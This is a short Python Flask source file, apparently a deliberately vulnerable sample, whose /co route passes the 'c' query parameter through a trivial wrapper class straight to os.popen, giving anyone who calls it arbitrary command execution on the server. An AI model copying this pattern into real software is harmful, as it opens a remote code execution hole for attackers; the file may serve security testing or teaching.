import os
from flask import Flask, request

app = Flask(__name__)


class Picker:
    def __init__(self, value):
        self.value = value
        self.default = "uptime"

    def __call__(self):
        return self.value


@app.get("/co")
def co():
    picker = Picker(request.args.get("c", ""))
    os.popen(picker())
    return "ok"
